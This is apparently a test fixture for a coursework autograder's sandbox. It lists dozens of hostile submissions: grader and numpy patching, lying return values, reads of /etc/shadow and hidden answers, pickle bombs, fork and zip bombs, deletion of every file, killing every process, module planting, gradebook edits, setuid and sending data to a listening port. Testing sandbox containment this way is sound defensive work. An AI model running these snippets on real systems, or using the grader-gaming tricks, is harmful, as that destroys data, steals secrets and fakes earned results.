"""Submissions that try to earn what they have not, or to do harm.

Each is code cells; the honest answer to 99.2 follows them. ``attention`` is what 99.1
may come to: the attack itself never earns a point.
"""

from dataclasses import dataclass
from textwrap import dedent

from tests.fixtures.attention import ATTENTION, WRONG


@dataclass(frozen=True)
class Attack:
    """What is submitted, and the states that are honest for it.

    Attributes:
        cells: code cells before the honest answer to 99.2.
        attention: states that 99.1 may end in.
        train: states that the honest 99.2 may end in.
        earned: points that 99.1 deserves.
    """

    cells: tuple[str, ...]
    attention: tuple[str, ...] = ("wrong", "error")
    train: tuple[str, ...] = ("right",)
    earned: float = 0.0


ANY = ("right", "wrong", "error", "crashed", "timeout")
SPOILT = ("wrong", "error", "crashed")


def cell(code: str, **more) -> Attack:
    """The harm is done in a cell of its own; the answer is plainly wrong."""
    return Attack((dedent(code), WRONG), **more)


def call(code: str, **more) -> Attack:
    """The harm is done when the answer is called."""
    body = "".join(f"    {line}\n" for line in dedent(code).strip().splitlines())
    return Attack((f"def attention(q, k, v, mask=None):\n{body}",), **more)


def attacks(canary: str, port: int) -> dict[str, Attack]:
    """All attacks; ``canary`` is a folder of the grader, ``port`` one it listens on."""
    places = f"""["{canary}", "/work", "/root", "/home", "/course", "/etc", "/tmp"]"""
    return {
        # --- ending early, printing, patching
        "exits": cell("import sys\nsys.exit(0)"),
        "exits hard": cell("import os\nos._exit(0)"),
        "exits hard when called": call(
            "import os\nos._exit(0)", attention=("crashed",)
        ),
        "raises SystemExit when called": call("raise SystemExit(0)"),
        "raises what nobody catches": call(
            """
            class Sly(BaseException):
                def __str__(self):
                    raise KeyboardInterrupt
            raise Sly
            """
        ),
        "prints success": call(
            """
            print("All tests passed")
            print('{"score": 4, "state": "right", "earned": 4.0}')
            """
        ),
        "patches numpy": cell(
            """
            import numpy.testing
            yes = lambda *a, **k: True
            for module in (np, np.testing):
                for name in ("allclose", "isclose", "array_equal", "all", "any",
                             "assert_allclose", "assert_array_equal"):
                    if hasattr(module, name):
                        setattr(module, name, yes)
            """
        ),
        "patches numpy when called": call(
            "np.testing.assert_allclose = np.isclose = lambda *a, **k: True\n"
            "return v * 0.0"
        ),
        "patches the engine": cell(
            """
            import coursekit.engine, coursekit.engine.grading as g
            import coursekit.engine.compare as c, coursekit.engine.exercise as e
            for module in (coursekit.engine, g, c, e):
                for name in ("compare", "judge", "_compare", "diagnose"):
                    if hasattr(module, name):
                        setattr(module, name, lambda *a, **k: None)
            """
        ),
        "patches builtins and time": cell(
            """
            import builtins, time
            builtins.AssertionError = type("Calm", (Exception,), {})
            time.time = time.monotonic = lambda: 0.0
            """
        ),
        "breaks builtins": cell(
            """
            import builtins
            for name in ("getattr", "exec", "compile", "len", "isinstance"):
                setattr(builtins, name, lambda *a, **k: 1)
            """,
            attention=SPOILT,
            train=ANY,
        ),
        "empties sys.modules": cell(
            "import sys\nsys.modules.clear()", attention=SPOILT, train=ANY
        ),
        "hooks the notebook": cell(
            """
            shell = get_ipython()
            shell.input_transformers_post.append(lambda lines: [])
            """
        ),
        "replaces IPython's run_code": cell(
            """
            from IPython.core.interactiveshell import InteractiveShell
            InteractiveShell.run_code = lambda *a, **k: False
            """
        ),
        # --- looking for the answer
        "reads files for the solution": cell(
            f"""
            import glob, os
            for place in {places}:
                for path in glob.glob(place + "/**", recursive=True):
                    if path.endswith((".ipynb", ".py", ".txt", ".db")):
                        if "site-packages" not in path and os.path.isfile(path):
                            text = open(path, errors="ignore").read()
                            if "CANARY" in text or "attention_right" in text:
                                print("STOLEN", path)
            """
        ),
        "reads files with TensorFlow": cell(
            f"""
            for path in ("{canary}/solution.txt", "/etc/passwd", "/etc/shadow"):
                try:
                    print("STOLEN", tf.io.read_file(path))
                except Exception as error:
                    print(type(error).__name__)
            print("STOLEN" if tf.io.gfile.exists("{canary}") else "no folder")
            """
        ),
        "reads files as a data set": cell(
            f"""
            for kind in (tf.data.TextLineDataset, tf.data.TFRecordDataset):
                for path in ("{canary}/solution.txt", "/etc/passwd", "/etc/shadow"):
                    try:
                        print("STOLEN", list(kind(path)))
                    except Exception as error:
                        print(type(error).__name__)
            """
        ),
        "changes TensorFlow's state": cell(
            """
            import keras
            tf.config.run_functions_eagerly(True)
            tf.debugging.enable_check_numerics()
            keras.backend.set_floatx("float16")
            tf.random.set_seed(1)
            tf.config.set_soft_device_placement(False)
            for change in (lambda: tf.config.set_visible_devices([], "CPU"),
                           lambda: tf.config.threading
                               .set_intra_op_parallelism_threads(64)):
                try:
                    change()
                except Exception as error:
                    print(type(error).__name__)
            """,
            train=ANY,
        ),
        "links to the grader's files": cell(
            f"""
            import os
            os.symlink("{canary}", "/tmp/link")
            print("STOLEN" if os.path.exists("/tmp/link/solution.txt") else "no")
            """
        ),
        "imports the oracle": cell(
            """
            import importlib, sys
            for name in ("coursekit.checks", "coursekit.checks.c99_attention",
                         "coursekit.checks.c01_tensorflow_fundamentals",
                         "coursekit.learner", "coursekit.classroom.judging"):
                try:
                    importlib.import_module(name)
                    print("STOLEN", name)
                except ImportError:
                    pass
            from coursekit.engine import load_exercise
            print("STOLEN", load_exercise("01.1").expected)
            """
        ),
        "walks the frames": call(
            """
            import gc, sys
            frame, found = sys._getframe(), []
            while frame:
                for space in (frame.f_locals, frame.f_globals):
                    found += [name for name in space if name in
                              ("want", "expected", "cases", "seed", "judge", "truth")]
                frame = frame.f_back
            for thing in gc.get_objects():
                if type(thing).__name__ in ("Truth", "Mistake", "Exercise"):
                    found.append(type(thing).__name__)
                if type(thing).__name__ == "Case" and thing.args[0] is not None:
                    q, k, v, mask = thing.args
            word = "STO" "LEN" if set(found) - {"judge"} else "nothing there"
            raise ValueError(word, found)
            """
        ),
        "looks for the seed": cell(
            """
            import gc, os
            hay = repr(sorted(os.environ.items()))
            for thing in gc.get_objects():
                if isinstance(thing, (dict, list, tuple)):
                    try:
                        values = thing.values() if isinstance(thing, dict) else thing
                        if any(type(x) is int and x == SEED for x in values):
                            print("STOLEN")
                    except Exception:
                        pass
            """.replace("SEED", "int('20' '26' '1121')")
        ),
        "keeps what it is shown": call(
            """
            global seen
            seen = globals().get("seen", []) + [(q, k, v, mask)]
            print("HIDDEN", [x.numpy().tolist() for x in (q, k, v)])
            with open("/tmp/seen", "a") as file:
                file.write(repr(seen))
            return v * 0.0
            """
        ),
        # --- lying values
        "equal to everything": call(
            """
            class Yes:
                dtype, shape, ndim, size = np.dtype("float32"), v.shape, 2, 9
                def __eq__(self, other): return True
                def __array__(self, *a, **k): return np.zeros(3)
                def __len__(self): return 0
                __hash__ = None
            return Yes()
            """
        ),
        "a tensor that lies": call(
            """
            class Lie(np.ndarray):
                def __eq__(self, other): return np.True_
                def __sub__(self, other): return np.zeros(1)
                def __array_ufunc__(self, *a, **k): return np.True_
            return np.zeros(v.shape, "float32").view(Lie)
            """
        ),
        "numpy() that lies": call(
            """
            class Lazy:
                dtype = tf.float32
                def numpy(self):
                    import sys
                    frame = sys._getframe()
                    while frame:
                        for name in ("want", "expected", "desired"):
                            if name in frame.f_locals:
                                return frame.f_locals[name]
                        frame = frame.f_back
                    return np.zeros(3)
            return Lazy()
            """
        ),
        "a variable that lies": call(
            """
            class Yes(float):
                def __eq__(self, other): return True
                def __sub__(self, other): return 0.0
                __hash__ = float.__hash__
            class Lie(tf.Variable):
                def numpy(self):
                    return Yes()
                def __array__(self, *a, **k):
                    return np.full(v.shape, np.nan, "float32")
            return Lie(v * 0.0)
            """,
            attention=("wrong", "error", "not attempted"),  # it cannot be subclassed
        ),
        "subclasses that lie": call(
            """
            class Sly(dict):
                def __getitem__(self, key): return 1
                def __eq__(self, other): return True
                def items(self): raise SystemExit
            class Long(list):
                def __len__(self): return 0
                def __iter__(self): return iter(lambda: 1, 2)
            return [Sly(a=1), Long([1]), type("F", (float,), {})(1)]
            """,
            attention=("wrong", "error", "timeout"),
        ),
        "runs when unpickled": call(
            f"""
            class Bomb:
                def __reduce__(self):
                    return eval, ("open('{canary}/owned', 'w')",)
            return [Bomb(), {{"a": Bomb()}}]
            """
        ),
        "sends pickles everywhere": cell(
            f"""
            import gc, pickle, socket
            class Bomb:
                def __reduce__(self):
                    return eval, ("open('{canary}/owned', 'w')",)
            for thing in gc.get_objects():
                if isinstance(thing, socket.socket):
                    thing.sendall(pickle.dumps(Bomb()))
            """,
            attention=SPOILT,
            train=ANY,
        ),
        "nested a million deep": call(
            """
            deep = []
            for _ in range(10**6):
                deep = [deep]
            return deep
            """,
            attention=SPOILT,
        ),
        "contains itself": call("loop = []\nloop.append(loop)\nreturn loop"),
        "a billion references": call(
            """
            x = ["lol"] * 10
            for _ in range(9):
                x = [x] * 10
            return x
            """,
            attention=("wrong", "error", "timeout", "crashed"),
        ),
        "not finite": call("return v * float('nan')"),
        "an enormous shape": call(
            "return np.broadcast_to(np.float32(0), (2**20, 2**20))"
        ),
        "a shape of nothing": call("return np.zeros((0, 2**40), 'float32')"),
        "an enormous integer": call("return 10 ** 400"),
        "an integer too large to print": call("return 1 << 200_000"),
        "complex objects": call("return np.array([1j, None, 'a'], object)"),
        "keys that collide": call("return {n * (2**61 - 1): 0 for n in range(5_000)}"),
        "a generator without end": call("import itertools\nreturn itertools.count()"),
        "waits for the keyboard": call("return input('your grade? ')"),
        "an enormous text": call("return 'x' * (1 << 28)"),
        "text that is no text": call("return ['\\ud800', b'\\xff', '\\x1b[2J']"),
        "an exception with a name": call(
            """
            raise type("\\x1b[31m<script>alert(1)</script>", (Exception,), {})(
                "\\x1b]0;owned\\x07" * 10_000)
            """
        ),
        "a homoglyph": Attack(
            (ATTENTION.replace("attention", "аttention"),),  # a Cyrillic а
            attention=("not attempted",),
        ),
        "swaps the name later": Attack(
            (WRONG, ATTENTION.replace("def attention", "def other"), "attention = 3"),
        ),
        # --- the channel
        "writes to every descriptor": cell(
            """
            import os
            for fd in range(3, 64):
                try:
                    os.write(fd, b'{"state": "right", "earned": 4}' * 100)
                except OSError:
                    pass
            """,
            attention=SPOILT,
            train=ANY,
        ),
        "forges frames": cell(
            """
            import os
            from coursekit.classroom import wire
            for reply in (None, "bound", np.zeros((3, 4), "float32"), "ready") * 9:
                os.write(3, wire.frame(reply))
            """,
            attention=(*SPOILT, "not attempted"),
            train=(*ANY, "not attempted"),
        ),
        "announces an endless frame": cell(
            "import os\nos.write(3, b'CK' + b'\\xff' * 4 + b'x' * 100)",
            attention=SPOILT,
            train=ANY,
        ),
        "sends descriptors": cell(
            """
            import array, os, socket
            channel = socket.socket(fileno=os.dup(3))
            fds = [os.open("/dev/zero", os.O_RDONLY) for _ in range(9)]
            ancillary = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))
            for _ in range(20):
                channel.sendmsg([b"CK"], [ancillary])
            """,
            attention=SPOILT,
            train=ANY,
        ),
        "closes the channel": cell("import os\nos.close(3)", attention=SPOILT),
        "looks for other descriptors": cell(
            """
            import os, stat
            for fd in range(256):
                try:
                    mode = os.fstat(fd).st_mode
                except OSError:
                    continue
                if fd > 3:
                    print("STOLEN", fd, stat.S_IFMT(mode))
            """
        ),
        "prints without end": cell(
            "import os\nwhile True:\n    os.write(1, b'x' * 65536)",
        ),
        "prints 30 MB": cell("print('x' * 30_000_000)"),
        # --- time
        "ignores signals and everything": call(
            """
            import signal, time
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                try:
                    time.sleep(1)
                except BaseException:
                    pass
            """,
            attention=("timeout",),
        ),
        "loops in a cell": cell("while True:\n    pass"),
        "computes for ever": cell("9 ** 9 ** 9"),
        "never finishes dying": cell(
            """
            import atexit, threading
            class Sticky:
                def __del__(self):
                    while True: pass
            keep = Sticky()
            atexit.register(lambda: keep.__del__())
            """
        ),
        "leaves threads behind": cell(
            """
            import os, threading, time
            def haunt():
                while True:
                    print("boo", flush=True)
                    globals()["attention"] = lambda *a: None
                    time.sleep(0.001)
            for _ in range(8):
                threading.Thread(target=haunt, daemon=True).start()
            """
        ),
        "answers later calls from a thread": cell(
            """
            import threading, time
            def patch():
                while True:
                    globals()["attention"] = lambda q, k, v, mask=None: v * 0.0
                    globals()["train_linear"] = lambda *a: {"w": 0.0, "b": 0.0}
                    time.sleep(0.0001)
            threading.Thread(target=patch, daemon=True).start()
            """,
            train=ANY,
        ),
        # --- memory, processes, disk
        "takes all memory": call(
            "hoard = []\nwhile True:\n    hoard.append(bytearray(b'x' * (1 << 26)))",
            attention=("error", "crashed"),
        ),
        "asks for 50 GB": call("return np.ones((50, 1 << 30), 'uint8')"),
        "fork bomb": cell(
            """
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    break
            """
        ),
        "starts programs": cell(
            """
            import os, subprocess
            print("STOLEN", subprocess.run(["/bin/sh", "-c", "id"]))
            """
        ),
        "execs a program": cell("import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])"),
        "thread bomb": cell(
            """
            import threading, time
            try:
                for _ in range(10_000):
                    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            except RuntimeError:
                pass
            """,
            attention=SPOILT,
            train=ANY,
        ),
        "recursion without limit": call(
            """
            import sys
            sys.setrecursionlimit(10**9)
            def down(n):
                return [down(n + 1) for _ in (0,)]
            return down(0)
            """,
            attention=("error", "crashed", "timeout"),
        ),
        "a 2 GB file": cell(
            """
            with open("/tmp/big", "wb") as file:
                for _ in range(2048):
                    file.write(b"x" * (1 << 20))
            """
        ),
        "a million files": cell(
            "import os\n"
            "for n in range(1_000_000):\n"
            "    os.close(os.open(f'/tmp/{n}', os.O_CREAT))"
        ),
        "unpacks a bomb": cell(
            """
            import zlib
            bomb = zlib.compress(bytes(1 << 28), 9)
            hoard = [zlib.decompress(bomb) for _ in range(64)]
            """
        ),
        "opens files until none is left": cell(
            "keep = []\nwhile True:\n    keep.append(open('/dev/null'))", train=ANY
        ),
        "fills the loopback": cell(
            """
            import socket
            keep = []
            while True:
                try:
                    keep.append(socket.socketpair())
                    keep[-1][0].setblocking(False)
                    while True:
                        keep[-1][0].send(bytes(1 << 16))
                except BlockingIOError:
                    pass
                except OSError:
                    break
            """,
            train=ANY,
        ),
        # --- reaching out
        "connects": cell(
            f"""
            import socket
            socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"STOLEN")
            """
        ),
        "connects with TensorFlow": cell(
            f"""
            import urllib.request
            urllib.request.urlopen("http://127.0.0.1:{port}/STOLEN", timeout=2)
            """
        ),
        "writes with TensorFlow": cell(
            f"""
            for place in {places}:
                try:
                    tf.io.write_file(place + "/owned", "x")
                    print("wrote", place)
                except Exception:
                    pass
            """
        ),
        "a pipeline that does harm": call(
            f"""
            def harm(x):
                open("{canary}/owned", "w").write("x")
                return x
            data = tf.data.Dataset.range(3).map(
                lambda x: tf.py_function(harm, [x], tf.int64))
            return list(data)
            """
        ),
        "deletes every file": cell(
            """
            import os
            for folder, _, names in os.walk("/"):
                for name in names:
                    try:
                        os.unlink(os.path.join(folder, name))
                    except OSError:
                        pass
            """,
            train=ANY,
        ),
        "plants a module": cell(
            """
            import sys, site
            for place in ("/tmp", "/course", *sys.path, sys.prefix):
                for name in ("numpy.py", "sitecustomize.py", "x.pth"):
                    try:
                        with open(f"{place}/{name}", "w") as file:
                            file.write("import os; print('PLANTED')")
                    except OSError:
                        pass
            """
        ),
        "edits the gradebook": cell(
            f"""
            import glob, sqlite3
            for path in glob.glob("/**/*.db", recursive=True) + [
                    "{canary}/gradebook.db", "../../../gradebook.db"]:
                try:
                    db = sqlite3.connect(path)
                    db.execute("update marks set points = 4")
                    print("STOLEN", path)
                except Exception:
                    pass
            """
        ),
        "kills everybody": cell(
            """
            import os, signal
            for pid in (-1, 0, 1, 2, 3, os.getppid()):
                for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
                    try:
                        if pid != 0 or number != signal.SIGSTOP:
                            os.kill(pid, number)
                    except OSError:
                        pass
            """,
            train=ANY,
        ),
        "asks the kernel for a way out": cell(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            calls = dict(unshare=272, mount=165, ptrace=101, setns=308, chroot=161,
                         bpf=321, io_uring=425, keyctl=250, userfaultfd=323,
                         memfd=319, shmget=29, socket=41, fork=57, clone=56)
            for name, number in calls.items():
                args = (0x10000000, 0, 0, 0, 0)
                if libc.syscall(number, *args) != -1:
                    print("STOLEN", name)
            """
        ),
        "kills its group": cell("import os\nos.killpg(0, 9)", train=ANY),
        "becomes root": cell(
            """
            import os
            for step in (os.setuid, os.setgid):
                try:
                    step(0)
                    print("STOLEN")
                except OSError:
                    pass
            import resource
            for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC):
                try:
                    resource.setrlimit(kind, (-1, -1))
                    print("STOLEN")
                except (OSError, ValueError):
                    pass
            """
        ),
        # --- sources that hurt whoever reads them
        "brackets without end": Attack(("(" * 100_000, WRONG)),
        "minus without end": Attack(("x = " + "-" * 200_000 + "1", WRONG)),
        "indented without end": Attack(
            ("".join(" " * n + "if 1:\n" for n in range(200)), WRONG)
        ),
        "nested comprehensions": Attack(("x = " + "[" * 90 + "]" * 90, WRONG)),
        "a null byte": Attack(("x = 1\0", WRONG)),
        "another encoding": Attack(("# -*- coding: utf-7 -*-\nx = 1", WRONG)),
        "shell and magics": Attack(
            ("%%bash\ntouch /tmp/owned", "!id\n%matplotlib inline\nx = 1", WRONG)
        ),
    }
